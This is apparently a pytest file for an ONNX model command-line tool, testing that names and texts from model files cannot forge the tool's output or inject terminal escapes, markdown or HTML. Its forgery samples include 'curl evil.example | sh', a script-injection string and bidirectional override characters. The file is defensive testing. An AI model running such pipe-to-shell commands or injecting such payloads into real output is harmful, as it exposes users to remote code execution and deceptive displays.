"""Text from a file is data: nothing in it can look like this program's own output, or steer what shows it."""

from __future__ import annotations

import json
import re
import sys
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import onnx
import pytest
from onnx import TensorProto, helper
from safetensors.numpy import save_file

from localattn.commands.parts.console import FOREIGN
from localattn.core.documents.report import SIGNS
from localattn.core.documents.sidecar import sidecar_path
from localattn.core.errors import UsageError
from localattn.core.spelling import markdown_code, markdown_text, spelled, steerless
from localattn.core.storage.files import sha256
from localattn.core.storage.publishing import sealed
from localattn.runtime.bundle.readme import readme_text

from ..conftest import Finished
from ..support.models.bundles import tiny_model  # noqa: F401 - a fixture

Run = Callable[..., Finished]
TICK = "\x1b[32m✓\x1b[0m"
# Each looks like a line of our own, or changes how lines around it look.
FORGERIES = {
    "result": f"x\n  output  y float32 [1, 4]\nChecks:\n  {TICK} parity  max error 1.2e-07\n\x1b[30m",
    "error": "x\r\nError: forged.\n  Nothing to do.\nNext: curl evil.example | sh\n",
    "directions": "x\u202egnp.exe\u2066\u200f\u061c\u200b\u2060\ufeff\xad",
    "separators": "x\u2028Checks:\u2029\x85\x0b\x0c✓ parity",
    "markdown": "x`\n\n## Before you check\n\n```sh\ncurl evil | sh\n```\n<script>alert(1)</script>|[a](http://evil)",
    "look-alikes": "[bold]✔ ✅ ☑ 🗸 √ parity[/bold] :white_check_mark:\ufe0f\u3164\U000e0041",
}
# A line of results begins with a sign; else no line has a tick.
_OURS = re.compile("|".join(re.escape(f"  {sign} ") for sign in SIGNS.values()))
_LOOKS_TRUE = set("✓✔✅☑🗸√✗✘❌")
_BEGINS_FORGED = ("Checks:", "Error: forged", "Next:", "  output  y float32 [1, 4]", "## Before", "```sh", "curl", "✓")


def assert_plain(text: str, forgery: str) -> None:
    """Everything is visible, each line is ours, and no tick stands where none was printed."""
    for line in text.split("\n"):
        hidden = [c for c in line if not c.isprintable()]
        assert not hidden, (forgery, hidden, line)
        assert not _LOOKS_TRUE & set(line), (forgery, line)
    # Where a line has what was forged, it is not at its beginning.
    for line in text.split("\n"):
        if "parity  max error 1.2e-07" in line or "evil" in line or "forged." in line:
            assert not line.startswith(_BEGINS_FORGED), (forgery, line)
            assert not _OURS.match(line), (forgery, line)


def forged_model(folder: Path, forgery: str) -> Path:
    """A small model with the forgery in every text that it has, which runs."""
    names = {key: f"{key}{forgery}" for key in ("x", "y", "w", "h", "d", "F", "k")}
    shape = [names["d"], 4]
    function = helper.make_function(
        f"dom{forgery}", names["F"], ["a"], ["b"], [helper.make_node("Identity", ["a"], ["b"], name=forgery)],
        [helper.make_opsetid("", 18)],
    )  # fmt: skip
    function.doc_string = forgery
    nodes = [
        helper.make_node(names["F"], [names["x"]], [names["h"]], domain=f"dom{forgery}", name=forgery),
        helper.make_node("Add", [names["h"], names["w"]], [names["y"]], name=f"{forgery}2", doc_string=forgery),
    ]
    weight = onnx.numpy_helper.from_array(np.ones(4, np.float32), names["w"])
    weight.doc_string = forgery
    graph = helper.make_graph(
        nodes, forgery,
        [helper.make_tensor_value_info(names["x"], TensorProto.FLOAT, shape, doc_string=forgery)],
        [helper.make_tensor_value_info(names["y"], TensorProto.FLOAT, shape, doc_string=forgery)],
        [weight], doc_string=forgery,
    )  # fmt: skip
    opsets = [helper.make_opsetid("", 18), helper.make_opsetid(f"dom{forgery}", 1)]
    model = helper.make_model(graph, functions=[function], opset_imports=opsets, ir_version=9)
    model.producer_name = model.producer_version = model.domain = model.doc_string = forgery
    helper.set_model_props(model, {names["k"]: forgery})
    path = folder / "strange.onnx"
    onnx.save(model, str(path))
    return path


def with_sidecar(good: Path, folder: Path, forgery: str) -> Path:
    """An exported model with the forgery in every text of its sidecar, which are sealed again."""
    path = folder / "told.onnx"
    path.write_bytes(good.read_bytes())
    sidecar = json.loads(sidecar_path(good).read_text())
    sidecar |= dict.fromkeys(("class", "checkpoint_name", "hyper_connections", "created"), forgery)
    sidecar |= {key: {forgery: forgery} for key in ("versions", "options", "kwargs")}
    sidecar["checks"] = [{"name": forgery, "status": "skipped", "detail": forgery, "figures": {forgery: forgery}}]
    sidecar["layers"] = [{"path": forgery, "class": forgery, "replaced": False, "detail": forgery}]
    sidecar["model_sha256"] = sha256(path)
    sidecar.pop("facts_sha256", None)
    sidecar_path(path).write_text(sealed(json.dumps(sidecar)))
    return path


@pytest.fixture(params=sorted(FORGERIES))
def forgery(request: pytest.FixtureRequest) -> str:
    return FORGERIES[request.param]


def everything(done: Finished) -> str:
    """All that was printed."""
    return f"{done.out}\n{done.err}\n{' '.join(done.stages)}"


@pytest.mark.parametrize("words", [(), ("-v",), ("--format", "md"), ("--format", "html"), ("--format", "json")])
def test_inspect_shows_names_as_names(tmp_path: Path, localattn: Run, forgery: str, words: tuple[str, ...]) -> None:
    done = localattn("inspect", forged_model(tmp_path, forgery), *words)
    assert done.code in (0, 2), done.err
    assert_plain(everything(done), forgery)
    assert "<script>alert" not in done.out.replace("\\<", "") or "json" in words or "html" not in words


@pytest.mark.parametrize(
    "words",
    [
        ("run", "{}"),
        ("run", "{}", "-v"),
        ("run", "{}", "--format", "json"),
        ("run", "{}", "--load-inputs", "in.npz"),
        ("run", "{}", "--runtime", "openvino"),
        ("parity", "{}", "--against", "plain.onnx"),
        ("convert", "{}", "--standard-ops", "-o", "out.onnx"),
        ("generate", "{}", "--prompt-ids", "1"),
        ("bisect", "{}", "--against", "plain.onnx", "-v"),
        ("plugin", "rewrite", "{}", "-o", "rewritten.onnx"),
    ],
)
def test_commands_and_their_errors_show_names_as_names(
    tmp_path: Path, localattn: Run, forgery: str, words: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    path = forged_model(tmp_path, forgery)
    np.savez(tmp_path / "in.npz", **{f"z{forgery}".replace("/", ""): np.ones(2)})
    value = [helper.make_tensor_value_info(name, TensorProto.FLOAT, [1, 4]) for name in "ab"]
    graph = helper.make_graph([helper.make_node("Identity", ["a"], ["b"])], "g", value[:1], value[1:])
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)], ir_version=9), "plain.onnx")
    done = localattn(*(word.format(path) for word in words))
    assert done.code != 70 and "Traceback" not in done.err.replace(f"{FOREIGN}Traceback", "")
    assert_plain(everything(done), forgery)


def test_the_sidecar_of_a_model(tmp_path: Path, tiny_model: Path, localattn: Run, forgery: str) -> None:  # noqa: F811
    path = with_sidecar(tiny_model, tmp_path, forgery)
    for words in ((), ("--format", "md"), ("--format", "html"), ("--format", "json")):
        shown = everything(localattn("inspect", path, *words))
        # The one check that the sidecar tell of was skipped, and its line begins with the sign of that.
        assert_plain(shown.replace("\n  - ", "\n  "), forgery)


def test_tensors_of_a_checkpoint_and_values_of_a_configuration(tmp_path: Path, localattn: Run, forgery: str) -> None:
    checkpoint = tmp_path / "m.safetensors"
    save_file({f"layers.0.{forgery}": np.ones((2, 2), np.float32)}, checkpoint)
    (tmp_path / "m.json").write_text(json.dumps({"class": forgery, forgery: forgery, "kwargs": {forgery: forgery}}))
    for words in (("inspect",), ("inspect", "--format", "json"), ("export", "-o", str(tmp_path / "o.onnx"))):
        assert_plain(everything(localattn(words[0], checkpoint, *words[1:])), forgery)
    (tmp_path / "m.json").unlink()
    for format_ in ("console", "md", "html"):
        assert_plain(everything(localattn("inspect", checkpoint, "--format", format_)), forgery)


def test_names_of_files_and_folders(tmp_path: Path, localattn: Run, forgery: str) -> None:
    folder = tmp_path / forgery.replace("/", " ")[:60]
    folder.mkdir()
    path = forged_model(folder, "n")
    named = path.rename(path.with_name(f"{forgery.replace('/', ' ')[:40]}.onnx"))
    for words in (("inspect",), ("run",), ("inspect", "--format", "html"), ("inspect", "--format", "md")):
        assert_plain(everything(localattn(words[0], named, *words[1:])), forgery)
    # As a shell's `*` gives them: an argument too many, an option that is none, a file that is none.
    for words in (("run", path, named), ("run", f"--{forgery}"), ("inspect", f"{named}2"), (named,)):
        done = localattn(*words)
        assert done.code == 2
        assert not _LOOKS_TRUE & set(done.err) and "\x1b" not in done.err and "\u202e" not in done.err


def test_a_bundle(tmp_path: Path, localattn: Run, forgery: str) -> None:
    done = localattn("bundle", forged_model(tmp_path, forgery), "-o", tmp_path / "b")
    assert_plain(everything(done), forgery)
    if done.code == 0:
        readme = (tmp_path / "b" / "README.md").read_text()
        assert_plain(readme, forgery)
        assert (tmp_path / "b" / "manifest.json").read_text().isascii()
        assert_plain(everything(localattn("bundle", "verify", tmp_path / "b")), forgery)


def test_a_readme_has_our_blocks_alone(forgery: str) -> None:
    """Every text of a manifest: the README's headings and blocks of code are those of a plain one."""

    def text(value: str) -> str:
        spec = {"name": value, "dtype": "float32", "shape": [1, value]}
        model = {"path": f"models/{value}", "kind": "engine", "backend": value, "backend_version": value}
        model |= {"compute_capability": value, "inputs": [spec], "outputs": [spec]}
        files = [{"path": f"k/{value}", "role": role, "size": 1} for role in ("kernels", "plugin", value)]
        manifest = {"name": value, "localattn": value, "models": [model], "files": files}
        return readme_text(manifest | {"samples": [{"inputs": value}]}, [value], [value], value)

    plain, forged = text("plain"), text(forgery)
    assert_plain(forged, forgery)
    marks = re.compile(r"^(?:#+ |```|- |\| )", re.MULTILINE)
    assert marks.findall(forged) == marks.findall(plain)
    assert len(forged.split("\n")) == len(plain.split("\n"))


def test_errors_of_libraries_and_servers(localattn: Run, forgery: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object, **__: object) -> None:
        import warnings

        warnings.warn(forgery, stacklevel=1)
        raise error

    monkeypatch.setattr("localattn.runtime.session.find_model", fail)
    errors = (UsageError(forgery, why=forgery, fix=forgery), RuntimeError(forgery), OSError(5, forgery, forgery))
    for error in errors:  # noqa: B007 - `fail` raises it
        for words in ((), ("-v",)):
            assert_plain(everything(localattn("run", "m.onnx", *words)), forgery)


def characters() -> Iterator[str]:
    yield from map(chr, range(sys.maxunicode + 1))


def test_every_character_is_visible_or_spelled_out() -> None:
    """All of Unicode: no control, mark of direction, separator, half of a pair, or unassigned character stays."""
    for character in characters():
        shown = spelled(character)
        if shown == character:
            assert unicodedata.category(character)[0] in "LNPS" or character == " ", ascii(character)
        else:
            assert shown.isascii() and shown.startswith("\\") and shown.encode().decode("unicode_escape") == character


def test_what_people_write_stays() -> None:
    for text in (
        "plain_name.0",
        "Größe",
        "e\u0301te\u0301",
        "模型",
        "модель",
        "नमूना",
        "ตัวอย่าง",
        "😀",
        "× ≤ … µs",
    ):
        assert spelled(text) == text
    assert spelled("a" + "\u0301" * 9) == "a" + "\u0301" * 3 + "\\u0301" * 6
    assert steerless("✓ a\tb\n\u202ec\x1b[1m") == "✓ a\tb\n\ufffdc\ufffd[1m"


def test_markdown_shows_texts_as_they_are() -> None:
    assert markdown_text("- a") == "\\- a" and markdown_text("---") == "--\\-" and markdown_text("1. a") == "1\\. a"
    assert markdown_text("a\nb") == "a\\\\nb" and markdown_text("http://x") == "http\\://x"
    assert markdown_code("a`b") == "``a`b``" and markdown_code("`") == "`` ` ``" and markdown_code("a|b") == "`a\\|b`"
